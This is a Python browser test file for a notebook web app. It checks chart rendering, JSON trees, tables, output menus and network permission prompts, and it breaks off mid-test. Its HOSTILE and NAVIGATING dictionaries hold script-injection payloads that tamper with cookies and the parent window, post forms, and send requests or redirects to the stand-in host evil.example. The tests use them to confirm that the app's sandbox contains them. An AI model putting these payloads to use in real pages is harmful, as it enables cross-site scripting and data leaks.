"""Figures, tables, trees and menus of outputs; and that what an output runs gets nowhere."""

from __future__ import annotations

import json
import re
from base64 import b64decode
from pathlib import Path
from typing import Any

from playwright.sync_api import FrameLocator, Locator, Page, Request, expect

from tests.browser.stage import PageCase

PLOTLY = "application/vnd.plotly.v1+json"
VEGA_LITE = "application/vnd.vegalite.v5+json"
BOKEH_LOAD = "application/vnd.bokehjs_load.v0+json"
BOKEH_EXEC = "application/vnd.bokehjs_exec.v0+json"

BARS = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"a": "A", "b": 28}, {"a": "B", "b": 55}]},
    "mark": "bar",
    "encoding": {"x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}},
}

REACH = (
    "['parent', 'top'].forEach(name => { try { window[name].document.title = 'escaped'; window[name].escaped = 1 } catch {} });"
    "try { document.cookie = 'escaped=1'; localStorage.escaped = 1 } catch {}"
)
"""What a hostile script tries first of all."""

HOSTILE = {
    "a script": f"<script>{REACH}</script>",
    "a handler": f'<img src=x onerror="{REACH}">',
    "a link to code": '<a id=go href="javascript:top.escaped=1">x</a><script>go.click()</script>',
    "code in a picture": "<svg><script>top.escaped = 1</script><image href=x onerror='top.escaped=1'></svg>",
    "a form that posts": "<form action=https://evil.example/take method=post target=_top><input name=a value=b></form>"
    "<script>document.forms[0].submit()</script>",
    "a form to this server": "<form action=/logout method=post target=_blank></form><script>document.forms[0].submit()</script>",
    "the whole window": "<a id=go target=_top href=https://evil.example/>x</a><script>go.click()</script>",
    "another window": "<script>open('https://evil.example/'); open('/')</script>",
    "a frame in the frame": "<iframe src=/></iframe><iframe src=https://evil.example/></iframe><iframe srcdoc='<script>top.escaped=1</script>'>"
    "</iframe>",
    "requests": "<script>fetch('/rpc', {method: 'POST', body: '{}'}).catch(() => {}); fetch('https://evil.example/').catch(() => {});"
    "navigator.sendBeacon('https://evil.example/'); new Image().src = 'https://evil.example/x';"
    "new EventSource('https://evil.example/'); try { new WebSocket('wss://evil.example/') } catch {}</script>",
    "loads": "<link rel=stylesheet href=https://evil.example/a.css><link rel=prefetch href=https://evil.example/b>"
    "<script src=https://evil.example/c.js></script><style>@import 'https://evil.example/d.css'; p { background: url(https://evil.example/e) }"
    "</style><p>x</p><object data=https://evil.example/f></object><video src=https://evil.example/g></video>",
    "a worker": "<script>const code = `fetch('https://evil.example/w').catch(() => {})`;"
    "new Worker(URL.createObjectURL(new Blob([code])))</script>",
    "messages to the page": "<script>for (const message of [null, 1, [], {}, {webipy: 'show'}, {webipy: 'set', comm: 'c', state: {a: 1}, number: 1},"
    "{webipy: 'custom', comm: 'c', content: {}, buffers: []}, {webipy: 'size', height: Infinity}, {webipy: 'size', height: -5},"
    "{webipy: 'want', name: '__proto__'}, {webipy: 'blocked', host: '\\\"><script>'}]) { parent.postMessage(message, '*');"
    "top.postMessage(message, '*') }</script><p>said</p>",
    "a huge size": "<div style='width: 1e7px; height: 1e7px'>huge</div><script>parent.postMessage({webipy: 'size', height: 1e9}, '*')</script>",
    "a cover": "<style>html, body { position: fixed; inset: 0; background: red; z-index: 2147483647 }</style><script>1</script>"
    "<div style='position: fixed; inset: -9999px; background: red'></div>",
    "a dialog on top": "<dialog id=d>over</dialog><script>d.showModal(); document.documentElement.requestFullscreen().catch(() => {})</script>",
    "what is kept": "<script>for (const act of [() => localStorage, () => sessionStorage, () => indexedDB.open('escaped'), () => document.cookie,"
    "() => caches.open('x'), () => navigator.serviceWorker.register('/sw.js')]) { try { act()?.catch?.(() => {}); } catch {} }"
    "try { top.localStorage.escaped = 1 } catch {} document.cookie = 'escaped=1'</script>",
    "where one is": "<script>navigator.geolocation.getCurrentPosition(() => { top.escaped = 1 }, () => {}); Notification.requestPermission()"
    ".catch(() => {}); navigator.clipboard?.readText().then(() => { top.escaped = 1 }, () => {})</script>",
    "other loads": "<link rel=preload as=font href=https://evil.example/f.woff2 crossorigin><link rel=modulepreload href=https://evil.example/m.js>"
    "<style>@font-face { font-family: f; src: url(https://evil.example/g.woff2) } p { font-family: f }</style><p>x</p>"
    "<script>const r = new XMLHttpRequest(); r.open('GET', 'https://evil.example/xhr'); r.send();"
    "import('https://evil.example/m.js').catch(() => {})</script>",
    "peer connections": "<script>try { new RTCPeerConnection() ; top.escaped = 1 } catch {}</script>",
    "a frame of its own making": "<script>const f = document.createElement('iframe'); document.body.append(f);"
    "try { f.contentWindow.parent.parent.escaped = 1 } catch {}</script>",
}
"""Outputs that want out. Those that navigate are in `NAVIGATING`: the page's own policy stops them, and says so."""

NAVIGATING = {
    "an address": "<script>location = 'https://evil.example/'</script>",
    "a refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'><script>1</script>",
    "a link": "<a id=go target=_self href=https://evil.example/>x</a><script>go.click()</script>",
    "a link whose click is hidden": "<a id=go href=https://evil.example/>x</a><script>go.onclick = event => event.stopPropagation(); go.click()</script>",
    "a download": "<a id=go href=https://evil.example/x download>x</a><script>go.click()</script>",
}


def shown(bundle: dict[str, Any], metadata: dict[str, Any] | None = None) -> str:
    """Code that displays a MIME bundle."""
    return f"import json\ndisplay(json.loads({json.dumps(bundle)!r}), raw=True, metadata={metadata or {}!r})\n"


class RichCase(PageCase):
    """A test with one session."""

    def run_cells(self, *codes: str) -> tuple[str, Page]:
        """A session with these cells, run before any page is open; and a page on it."""
        session, after = self.new_session(), None
        for code in codes:
            after = self.add_cell(session, code, after=after)
            self.execute(session, code, after)
        return session, self.open(session)

    def show(self, code: str) -> Locator:
        """The cell that has run that code."""
        _, page = self.run_cells(code)
        return page.locator(".cell").first

    def frame(self, cell: Locator, at: int = 0) -> FrameLocator:
        """A sealed frame of a cell."""
        return cell.frame_locator("iframe.sealed").nth(at)


class Figures(RichCase):
    """What plotting libraries display."""

    def test_plotly_figures_are_drawn(self) -> None:
        """A plotly figure is drawn in a sealed frame, which takes its height."""
        figure = {"data": [{"type": "scatter", "x": [1, 2], "y": [3, 1]}], "layout": {"height": 230}}
        cell = self.show(shown({PLOTLY: figure, "text/plain": "Figure()"}))
        expect(self.frame(cell).locator(".scatterlayer .trace")).to_have_count(1)
        expect(cell.locator("iframe.sealed")).to_have_attribute("style", re.compile(r"height: 23\dpx"))

    def test_plotly_figures_in_space_are_drawn(self) -> None:
        """Charts that the small bundle has not are drawn by the large one."""
        figure = {"data": [{"type": "sunburst", "labels": ["a", "b"], "parents": ["", "a"]}], "layout": {}}
        cell = self.show(shown({PLOTLY: figure}))
        expect(self.frame(cell).locator(".sunburstlayer .slice")).to_have_count(2)

    def test_vega_lite_charts_are_drawn(self) -> None:
        """A chart of Vega-Lite 5 or 6 is drawn; its data may be in it."""
        cell = self.show(shown({VEGA_LITE: BARS}) + shown({VEGA_LITE.replace("v5", "v6"): BARS}))
        for at in range(2):
            expect(self.frame(cell, at).locator(".mark-rect path")).to_have_count(2)

    def test_vega_charts_are_drawn(self) -> None:
        """A chart of Vega itself, too."""
        spec = {
            "width": 50,
            "height": 50,
            "marks": [{"type": "rect", "encode": {"enter": {"width": {"value": 9}, "height": {"value": 9}}}}],
        }
        cell = self.show(shown({"application/vnd.vega.v5+json": spec}))
        expect(self.frame(cell).locator(".mark-rect path")).to_have_count(1)

    def test_html_of_plotting_libraries_uses_our_copies(self) -> None:
        """HTML that would load Vega or plotly from a public server gets ours: nothing goes out."""
        address = "https://cdn.jsdelivr.net/npm"
        altair = (
            "<div id=vis></div><script>const add = (name) => new Promise((done, fail) => { const s = document.createElement('script');"
            f"s.onload = done; s.onerror = fail; s.src = '{address}/' + name; document.head.append(s) }});"
            "add('vega@6?noext').then(() => add('vega-lite@6.1.0?noext')).then(() => add('vega-embed@7?noext'))"
            f".then(() => vegaEmbed('#vis', {json.dumps(BARS)}, {{renderer: 'svg'}}))</script>"
        )
        plotly = (
            "<script src='https://cdn.plot.ly/plotly-3.0.1.min.js'></script><div id=p></div>"
            "<script>Plotly.newPlot('p', [{y: [1, 2, 3]}])</script>"
        )
        cell = self.show(shown({"text/html": altair}) + shown({"text/html": plotly}))
        expect(self.frame(cell, 0).locator(".mark-rect path")).to_have_count(2)
        expect(self.frame(cell, 1).locator(".scatterlayer .trace")).to_have_count(1)
        expect(cell.locator(".wanted")).to_have_count(0)

    def test_bokeh_gets_its_parts_together(self) -> None:
        """Bokeh's loader, the element and the script are outputs of their own; the frame of the figure has all of them."""
        load = "window.Bokeh = { embed: id => { document.getElementById(id).textContent = 'drawn' } }"
        script = '(root => { const items = [{"docid": "d", "roots": {"p1001": "ab-12"}}]; root.Bokeh.embed("ab-12") })(window)'
        _, page = self.run_cells(
            shown({"application/javascript": load, BOKEH_LOAD: ""}),
            shown({"text/html": '<div id="ab-12" data-root-id="p1001"></div>'})
            + shown({"application/javascript": script, BOKEH_EXEC: ""}, {BOKEH_EXEC: {"id": "p1001"}}),
        )
        expect(self.frame(page.locator(".cell").nth(1)).locator("#ab-12")).to_have_text("drawn")

    def test_an_updated_figure_is_drawn_anew(self) -> None:
        """`update_display` of a figure shows the new one."""
        session, page = self.run_cells(
            "h = display({'text/html': '<b>one</b><script>1</script>'}, raw=True, display_id='f')"
        )
        cell = page.locator(".cell").first
        expect(self.frame(cell).locator("b")).to_have_text("one")
        self.execute(session, "h.update({'text/html': '<b>two</b><script>1</script>'}, raw=True)")
        expect(self.frame(cell).locator("b")).to_have_text("two")

    def test_the_theme_reaches_figures(self) -> None:
        """In the dark theme a figure without a template stands on the page's ground."""
        session = self.new_session()
        cell = self.add_cell(session, "x")
        self.execute(session, shown({PLOTLY: {"data": [{"y": [1, 2]}], "layout": {"height": 200}}}), cell)
        context = self.new_context(color_scheme="dark")
        page = self.open(session, context)
        ground = self.frame(page.locator(".cell").first).locator(".main-svg").first
        expect(ground).to_have_attribute("style", re.compile(r"background: rgba\(0, 0, 0, 0\)"))


class Earlier(RichCase):
    """Outputs that build on others, and on files."""

    def test_an_output_has_what_earlier_ones_have_made(self) -> None:
        """Globals, modules of RequireJS and jQuery: in whatever order views are drawn, after a reload, after a cell ran again; unrelated code stays away."""
        colours = shown(
            {
                "text/html": "<script>window.colours = ['red']; function paint(id) { id.textContent = colours[0] }</script>"
            }
        )
        module = "from IPython.display import Javascript\nJavascript(\"require.config({paths: {}}); define('mine', [], () => ({n: 42}))\")"
        uses = shown(
            {
                "text/html": "<p id=p></p><script>require(['mine'], mine => { paint(p); p.textContent += mine.n + typeof window['lone' + 'ly'] })</script>"
            }
        )
        session, page = self.run_cells(
            colours,
            module,
            shown({"text/html": "<p>alone</p><script>window.lonely = 1</script>"}),
            uses,
            "Javascript(\"element.append('x'); $(element).append('<b>bold</b>')\")",
        )
        place = self.frame(page.locator(".cell").nth(3)).locator("#p")
        expect(place).to_have_text("red42undefined")
        expect(self.frame(page.locator(".cell").nth(4)).locator("#output")).to_have_text("xbold")
        page.reload()
        expect(place).to_have_text("red42undefined")
        ids = [str(one.get_attribute("id")).removeprefix("cell-") for one in page.locator(".cell").all()]
        self.execute(session, colours.replace("red", "blue"), ids[0])
        self.execute(session, uses, ids[3])
        expect(place).to_have_text("blue42undefined")

    def test_libraries_of_the_kernel_need_no_network(self) -> None:
        """What is loaded from a public server comes from the package that wrote the output, in its order; icons and the like are ours."""
        asked: list[str] = []

        def answer(route: Any) -> None:
            asked.append(route.request.url)
            body = (
                "window.Lib = (window.Lib || []).concat(document.currentScript.src.includes('gl') ? 'second' : 'first')"
            )
            route.fulfill(content_type="application/octet-stream", body=body)

        self.context.route("**/libraries/**", answer)
        at = "https://cdn.bokeh.org/bokeh/release/bokeh"
        load = (
            f"for (const url of ['{at}-9.9.9.min.js', '{at}-gl-9.9.9.min.js']) {{ const s = document.createElement('script'); s.async = false;"
            "s.src = url; document.head.appendChild(s) }"
        )
        _, page = self.run_cells(
            shown({"application/javascript": load, BOKEH_LOAD: load}),
            shown({"text/html": "<p id=p></p><i class='fa fa-play'></i><script>p.textContent = Lib.join()</script>"
                   "<link rel=stylesheet href=https://maxcdn.bootstrapcdn.com/font-awesome/4.4.0/css/font-awesome.min.css>"}),
        )  # fmt: skip
        cell = page.locator(".cell").nth(1)
        expect(self.frame(cell).locator("#p")).to_have_text("first,second")
        expect(self.frame(cell).locator("i")).to_have_css("font-family", re.compile("Font Awesome"))
        expect(cell.locator(".wanted")).to_have_count(0)
        self.assertEqual(len(asked), 2)

    def test_an_animation_of_matplotlib_has_its_buttons(self) -> None:
        """`to_jshtml`, as it is written: icons are there, a click shows the next picture."""
        cell = self.show(
            "import matplotlib; matplotlib.use('agg')\nimport matplotlib.pyplot as plt\nfrom matplotlib.animation import FuncAnimation\n"
            "from IPython.display import HTML\nfig, ax = plt.subplots(figsize=(2, 1))\nline, = ax.plot([0, 1])\n"
            "made = FuncAnimation(fig, lambda i: line.set_ydata([0, i]), frames=2); plt.close()\nHTML(made.to_jshtml(default_mode='once'))"
        )
        frame = self.frame(cell)
        picture = frame.locator("img")
        expect(picture).to_have_attribute("src", re.compile("^data:image"))
        first = picture.get_attribute("src")
        expect(frame.locator("i.fa-play").first).to_have_css("font-family", re.compile("Font Awesome"))
        frame.locator("button[title='Next frame']").click()
        expect(picture).not_to_have_attribute("src", str(first))
        expect(cell.locator(".wanted")).to_have_count(0)

    def test_files_beside_the_notebook_are_there(self) -> None:
        """Pictures, scripts, styles and data that an output names, and those of a page beside it; none that code makes up; with a network only when allowed."""
        folder = self.server.root / "beside"
        folder.mkdir()
        for name, content in {
            "a.js": "window.fromFile = 7",
            "a.css": "p { color: rgb(1, 2, 3) }",
            "a.json": '{"n": 8}',
            "secret.json": '{"n": 9}',
            "page.html": "<p id=p></p><script src=a.js></script><script>p.textContent = fromFile</script>",
        }.items():
            (folder / name).write_text(content)
        (folder / "a.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' width='30' height='20'></svg>")
        html = (
            "<link rel=stylesheet href=a.css><p id=p></p><img src=./a.svg><script src=a.js></script><script>(async () => {"
            "const got = await (await fetch('a.json')).json(); const no = await fetch('secret' + '.json');"
            "p.textContent = [fromFile, got.n, no.status].join() })()</script>"
        )
        net = "<p id=p></p><script src=https://cdn.example.org/x.js></script><script>fetch('a.json').then(one => { p.textContent = one.status })</script>"
        self.context.route(
            "https://cdn.example.org/**", lambda route: route.fulfill(body="1", content_type="text/javascript")
        )
        frame_of = '<iframe width="300" height="90" src="page.html"></iframe>'
        outputs = [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": one}} for one in (html, frame_of, net)
        ]
        self.write_notebook(
            "beside/n.ipynb", {"cell_type": "code", "source": "x", "outputs": outputs, "execution_count": 1}
        )
        page = self.open_file("beside/n.ipynb")
        cell = page.locator(".cell").first
        expect(self.frame(cell).locator("#p")).to_have_text("7,8,404")
        expect(self.frame(cell).locator("#p")).to_have_css("color", "rgb(1, 2, 3)")
        expect(self.frame(cell).locator("img")).to_have_js_property("naturalWidth", 30)
        expect(self.frame(cell, 1).locator("#p")).to_have_text("7")
        box = cell.locator("iframe.sealed").nth(1).bounding_box()
        assert box is not None
        self.assertEqual((box["width"], box["height"]), (300, 90))
        place = self.frame(cell, 2).locator("#p")
        expect(place).to_have_text("200")
        wanted = cell.locator(".wanted")
        expect(wanted).to_contain_text("They could get beside/a.json, which the output shows, too.")
        wanted.get_by_role("button", name="Allow").click()
        expect(wanted).to_have_count(0)
        expect(place).to_have_text("200")
        page.reload()
        expect(place).to_have_text("404")
        expect(wanted).to_contain_text("This output wants to read beside/a.json.")
        wanted.get_by_role("button", name="Allow").click()
        expect(place).to_have_text("200")


class Network(RichCase):
    """What outputs load from elsewhere."""

    CODE = "<p id=p>before</p><script src=https://cdn.example.org/lib.js></script>"

    def test_a_person_can_let_an_output_load_from_a_server(self) -> None:
        """An output that needs a script from elsewhere says from where; once allowed, it loads it, and others that ask for the same do."""
        session = self.new_session()
        for code in (self.CODE, self.CODE.replace("lib", "other")):
            self.execute(session, shown({"text/html": code}), self.add_cell(session, "x"))
        asked: list[str] = []

        def answer(route: Any) -> None:
            asked.append(route.request.url)
            route.fulfill(content_type="text/javascript", body="document.getElementById('p').textContent = 'loaded'")

        self.context.route("https://cdn.example.org/**", answer)
        page = self.open(session)
        first, second = page.locator(".cell").nth(0), page.locator(".cell").nth(1)
        expect(first.locator(".wanted")).to_contain_text("This output wants to load from cdn.example.org.")
        expect(self.frame(first).locator("#p")).to_have_text("before")
        self.assertEqual(asked, [])
        first.get_by_role("button", name="Allow").click()
        expect(self.frame(first).locator("#p")).to_have_text("loaded")
        expect(self.frame(second).locator("#p")).to_have_text("loaded")
        expect(page.locator(".wanted")).to_have_count(0)
        page.reload()
        expect(self.frame(second).locator("#p")).to_have_text("loaded")
        second.locator(".output").hover()
        second.get_by_role("button", name="Forbid it").click()
        expect(self.frame(second).locator("#p")).to_have_text("before")
        expect(second.locator(".wanted")).to_be_visible()

    def test_pictures_from_elsewhere_are_shown_when_asked_for(self) -> None:
        """A text names the server that a picture is on and loads nothing until it is told to; the setting can say never."""
        png = b64decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
        )
        asked: list[str] = []

        def answer(route: Any) -> None:
            asked.append(route.request.url)
            route.fulfill(content_type="image/png", body=png)

        self.context.route(re.compile(r"^https://\w+\.example\.org/"), answer)
        session = self.new_session()
        self.add_cell(
            session,
            "![a cat](https://pics.example.org/cat.png) [![b](//pics.example.org/b.png)](https://x.org)",
            "markdown",
        )
        page = self.open(session)
        place = page.locator(".remote-picture")
        expect(place).to_have_count(2)
        expect(place.first).to_contain_text("“a cat” from pics.example.org")
        expect(page.get_by_role("link", name="b", exact=True)).to_be_visible()
        self.assertEqual(asked, [])
        page.keyboard.press("Control+Comma")
        page.get_by_text("Never", exact=True).click()
        page.keyboard.press("Escape")
        expect(place.get_by_role("button")).to_have_count(0)
        page.keyboard.press("Control+Comma")
        page.get_by_text("Ask", exact=True).click()
        page.keyboard.press("Escape")
        place.first.get_by_role("button", name="Show").click()
        expect(page.frame_locator("iframe.sealed").first.get_by_role("img")).to_have_js_property("naturalWidth", 1)
        self.assertEqual(asked[0], "https://pics.example.org/cat.png")

    def test_one_question_names_all_servers_of_a_map(self) -> None:
        """A map in a frame of text is allowed with one click, for its notebook, and stays allowed; the settings list what is allowed and take it back."""
        lib = "window.L = { map: id => { document.getElementById(id).textContent = 'map' }, tiles: at => { new Image().src = at } }"
        inner = (
            "<!doctype html><link rel=stylesheet href='https://style.example.org/map.css'><script src='https://lib.example.org/map.js'></script>"
            "<div id=m>none</div><script>L.map('m'); L.tiles('https://tiles.example.org/1.png')</script>"
        ).replace('"', "&quot;")
        asked: list[str] = []

        def answer(route: Any) -> None:
            asked.append(route.request.url)
            kind = "text/css" if "style" in route.request.url else "text/javascript"
            route.fulfill(content_type=kind, body=lib if "lib." in route.request.url else "#m { color: rgb(1, 2, 3) }")

        self.context.route(re.compile(r"^https://\w+\.example\.org/"), answer)
        session = self.new_session()
        self.execute(session, shown({"text/html": f'<iframe srcdoc="{inner}"></iframe>'}), self.add_cell(session, "m"))
        page = self.open(session)
        cell = page.locator(".cell").first
        wanted = cell.locator(".wanted")
        expect(wanted).to_contain_text("from style.example.org, lib.example.org, tiles.example.org.")
        self.assertEqual(asked, [])
        wanted.get_by_role("button", name="Allow").click()
        place = self.frame(cell).frame_locator("iframe").locator("#m")
        expect(place).to_have_text("map")
        expect(place).to_have_css("color", "rgb(1, 2, 3)")
        expect(wanted).to_have_count(0)
        page.reload()
        expect(place).to_have_text("map")
        page.keyboard.press("Control+Comma")
        servers = page.get_by_role("group", name="Servers that outputs may load from")
        expect(servers.get_by_role("listitem")).to_have_count(3)
        servers.get_by_role("button", name="Forbid lib.example.org").click()
        expect(servers.get_by_role("listitem")).to_have_count(2)
        page.keyboard.press("Escape")
        expect(place).to_have_text("none")
        wanted.get_by_label("How long it is allowed").select_option("once")
        wanted.get_by_role("button", name="Allow").click()
        expect(place).to_have_text("map")
        page.reload()
        expect(place).to_have_text("none")

    def test_pages_of_other_servers_are_shown_when_allowed(self) -> None:
        """As `YouTubeVideo` and `IFrame` write them: with their size, their own origin, and no way to this page."""
        body = (
            "<p id=p></p><script>let reached = false; try { reached = top.document !== null } catch {}"
            "p.textContent = [origin, reached].join()</script>"
        )
        self.context.route(
            "https://films.example.org/**", lambda route: route.fulfill(body=body, content_type="text/html")
        )
        cell = self.show(
            shown(
                {
                    "text/html": '<iframe width="400" height="150" src="https://films.example.org/embed/1?a=1&amp;b=2" frameborder="0"></iframe>'
                }
            )
        )
        expect(cell.locator(".wanted")).to_contain_text("This output shows a page of films.example.org.")
        cell.get_by_role("button", name="Allow").click()
        site = cell.locator("iframe.site")
        expect(site.content_frame.frame_locator("iframe").locator("#p")).to_have_text("https://films.example.org,false")
        box = site.bounding_box()
        assert box is not None
        self.assertEqual((box["width"], box["height"]), (400, 150))

    def test_what_is_allowed_is_that_server_alone(self) -> None:
        """Another server stays out of reach."""
        session = self.new_session()
        code = self.CODE + "<script>fetch('https://other.example.org/').catch(() => {})</script>"
        self.execute(session, shown({"text/html": code}), self.add_cell(session, "x"))
        self.context.route(
            "https://cdn.example.org/**", lambda route: route.fulfill(body="1", content_type="text/javascript")
        )
        asked: list[str] = []
        self.context.on("request", lambda request: asked.append(request.url))
        page = self.open(session)
        page.evaluate("localStorage.setItem('webipy.hosts', JSON.stringify(['cdn.example.org']))")
        page.reload()
        expect(page.locator(".wanted")).to_contain_text("This output wants to load from other.example.org.")
        self.assertEqual([url for url in asked if "other.example" in url], [])


class Trees(RichCase):
    """JSON."""

    VALUE: dict[str, Any] = {"name": "webipy", "list": list(range(1000)), "deep": {"a": [{"needle": "x", "b": None}]}}

    def tree(self) -> Locator:
        """The tree of that value."""
        return self.show(f"from IPython.display import JSON\nJSON({self.VALUE!r})").locator(".json-tree")

    def test_branches_open_and_close_and_come_in_parts(self) -> None:
        """A branch shows its items when it is opened, a hundred at a time."""
        tree = self.tree()
        expect(tree.locator(".json-leaf")).to_have_text([re.compile("name: .webipy.")])
        tree.get_by_text("list").click()
        expect(tree.locator(".json-leaf")).to_have_count(101)
        tree.get_by_role("button", name="Show 900 more items").click()
        expect(tree.locator(".json-leaf")).to_have_count(201)
        tree.get_by_text("list").click()
        expect(tree.locator(".json-leaf")).to_have_count(1)

    def test_a_search_opens_what_it_finds(self) -> None:
        """Keys and values are found wherever they are; Enter goes on to the next."""
        tree = self.tree()
        field = tree.get_by_role("searchbox")
        field.fill("needle")
        expect(tree.locator(".json-hit")).to_have_text(re.compile('needle: "x"'))
        field.fill("77")
        expect(tree.get_by_role("status")).to_have_text("1 of 19")
        expect(tree.locator(".json-hit")).to_have_text(re.compile("77: 77"))
        for _ in range(3):
            field.press("Enter")
        expect(tree.locator(".json-hit")).to_have_text(re.compile("377: 377"))

    def test_the_path_of_a_value_can_be_copied(self) -> None:
        """As a subscript, which Python and JavaScript read alike."""
        tree = self.tree()
        tree.get_by_role("searchbox").fill("needle")
        tree.locator(".json-hit").hover()
        tree.locator(".json-branch:has(> .json-hit)").get_by_role("button", name="Copy path").click()
        self.copied(tree.page, '["deep"]["a"][0]["needle"]')


class Tables(RichCase):
    """Tables of pandas."""

    CODE = (
        "import pandas as pd\npd.DataFrame({'city': ['Rome', 'Bern', 'Oslo'], 'people': [2_748_109, 134_794, 709_037]})"
    )

    def test_a_click_on_a_column_sorts_by_it(self) -> None:
        """Numbers as numbers, up, down, and back to how it came."""
        cell = self.show(self.CODE)
        cities = cell.locator("tbody td:nth-child(2)")
        expect(cities).to_have_text(["Rome", "Bern", "Oslo"])
        people = cell.get_by_role("button", name="people")
        for order in (["Bern", "Oslo", "Rome"], ["Rome", "Oslo", "Bern"], ["Rome", "Bern", "Oslo"]):
            people.click()
            expect(cities).to_have_text(order)
        cell.get_by_role("button", name="city").press("Enter")
        expect(cell.locator("th[aria-sort=ascending]")).to_have_text("city")
        expect(cities).to_have_text(["Bern", "Oslo", "Rome"])

    def test_long_tables_keep_their_header_in_sight(self) -> None:
        """A table with many rows scrolls in a box, under its header."""
        cell = self.show("import pandas as pd\npd.DataFrame({'n': range(60)})")
        box = cell.locator(".table-box")
        box.evaluate("box => { box.scrollTop = box.scrollHeight }")
        expect(cell.locator("tbody tr").last).to_be_visible()
        top, head = box.bounding_box(), cell.locator("thead th").last.bounding_box()
        assert top is not None and head is not None
        self.assertLess(abs(top["y"] - head["y"]), 2)

    def test_a_table_is_taken_out_as_csv(self) -> None:
        """The menu copies it as CSV."""
        cell = self.show(self.CODE)
        cell.locator(".output").hover()
        cell.get_by_role("button", name="Menu of output").click()
        cell.get_by_role("menuitem", name="Copy as CSV").click()
        expect(cell.page.get_by_text("Copied")).to_be_visible()
        text = cell.page.evaluate("navigator.clipboard.readText()")
        self.assertEqual(text.replace("\r", ""), ",city,people\n0,Rome,2748109\n1,Bern,134794\n2,Oslo,709037")


class Menus(RichCase):
    """The menu of an output."""

    def saved(self, cell: Locator, item: str) -> tuple[str, bytes]:
        """The name and content of the file that a menu item saves."""
        button = cell.locator(".output").first.get_by_role("button", name="Menu of")
        button.focus()
        expect(button).to_have_css("opacity", "1")
        button.press("Enter")
        with cell.page.expect_download() as download:
            cell.get_by_role("menuitem", name=item).press("Enter")
        return download.value.suggested_filename, Path(str(download.value.path())).read_bytes()

    def test_outputs_are_saved_by_keyboard(self) -> None:
        """Every kind of output has a menu that the keyboard reaches; what is saved is what was put out."""
        png = "import base64\ndisplay({'image/png': base64.b64encode(b'\\x89PNG..').decode()}, raw=True)"
        table = {
            png: ("Save as an image", "output-of-cell-1.png", b"\x89PNG.."),
            "print('text')": ("Save as text", "output-of-cell-1.txt", b"text\n"),
            "display({'application/json': {'a': 1}}, raw=True)": (
                "Save as a file",
                "output-of-cell-1.json",
                b'{\n  "a": 1\n}',
            ),
            "display({'text/markdown': '# a'}, raw=True)": ("Save as a file", "output-of-cell-1.md", b"# a"),
        }
        for code, (item, name, content) in table.items():
            cell = self.show(code)
            self.assertEqual(self.saved(cell, item), (name, content))

    def test_a_picture_fills_the_screen(self) -> None:
        """A click on a picture shows it on the whole screen, another click ends that."""
        cell = self.show(
            "import base64, struct, zlib\n"
            "row = b'\\0' + b'\\xff\\0\\0' * 8\n"
            "chunk = lambda name, data: struct.pack('>I', len(data)) + name + data + struct.pack('>I', zlib.crc32(name + data))\n"
            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>2I5B', 8, 8, 8, 2, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(row * 8))"
            " + chunk(b'IEND', b'')\n"
            "display({'image/png': base64.b64encode(png).decode()}, raw=True)"
        )
        image = cell.locator("img.image")
        image.click()
        expect(cell.locator(".output:fullscreen")).to_have_count(1)
        image.click()
        expect(cell.locator(".output:fullscreen")).to_have_count(0)


class Escapes(RichCase):
    """What hostile outputs come to."""

    def watched(self) -> list[str]:
        """Every request of this context that left the browser, or would have: those that a policy stopped did not."""
        asked: list[str] = []

        def heard(request: Request) -> None:
            if request.failure != "csp":
                asked.append(f"{request.method} {request.url}")

        self.context.on("requestfinished", heard)
        self.context.on("requestfailed", heard)
        return asked

    def outside(self, asked: list[str]) -> list[str]:
        """Those that no page of ours makes."""
        ours = re.compile(
            rf"^(GET {self.server.origin}/(s/|static/|frame$|healthz$)|POST {self.server.origin}/login|GET (data|blob):)"
        )
        return [one for one in asked if not ours.search(one)]

    def check(self, page: Page, asked: list[str]) -> None:
        """Nothing has come of it."""
        self.assertEqual(page.evaluate("[typeof window.escaped, localStorage.escaped ?? null]"), ["undefined", None])
        self.assertNotEqual(page.title(), "escaped")
        self.assertEqual(len(self.context.pages), 1)
        self.assertTrue(page.evaluate("document.elementFromPoint(20, 10).closest('.top') !== null"))
        self.assertFalse(page.evaluate("document.cookie.includes('escaped')"))
        self.assertEqual(self.outside(asked), [])
        page.evaluate("fetch('/rpc/openrpc.json').then(answer => answer.ok)")

    def test_nothing_of_an_output_gets_out(self) -> None:
        """Of a table of attacks none reaches the page, the server or another site, and the page's own policy has nothing to report."""
        asked = self.watched()
        _, page = self.run_cells(*[shown({"text/html": html}) for html in HOSTILE.values()])
        for at, name in enumerate(HOSTILE):
            with self.subTest(name):
                cell = page.locator(".cell").nth(at)
                cell.scroll_into_view_if_needed()
                expect(cell.locator("iframe.sealed")).to_have_attribute("style", re.compile("height"))
                box = cell.locator("iframe.sealed").bounding_box()
                assert box is not None
                self.assertLessEqual(box["height"], 2000)
        self.check(page, asked)

    def test_the_document_of_frames_is_sealed_in_a_tab_too(self) -> None:
        """Opened by itself it has an origin of its own and reaches nothing."""
        self.faults_expected = re.compile("^policy: connect-src")  # the stop itself
        self.sign_in()
        page = self.new_page()
        page.goto(f"{self.server.origin}/frame?host=cdn.example.org")
        self.assertEqual(page.evaluate("self.origin"), "null")
        self.assertEqual(page.evaluate("fetch('/rpc/openrpc.json').then(() => 'read', () => 'refused')"), "refused")

    def test_a_frame_that_navigates_is_taken_away(self) -> None:
        """It is stopped before anything is sent, and replaced by a sentence."""
        self.faults_expected = re.compile("^policy: frame-src https://evil.example")  # the stop itself
        asked = self.watched()
        _, page = self.run_cells(*[shown({"text/html": html}) for html in NAVIGATING.values()])
        for cell in page.locator(".cell").all():
            cell.scroll_into_view_if_needed()
            expect(cell.locator(".out")).to_contain_text(
                re.compile("tried to leave the page|leads to https://evil.example|^$")
            )
        self.assertEqual(self.outside(asked), [])
        self.assertEqual(len(self.context.pages), 1)

    def test_a_frame_that_talks_without_end_is_stopped(self) -> None:
        """The page stays usable under a flood of messages, and ends it."""
        cell = self.show(
            shown(
                {
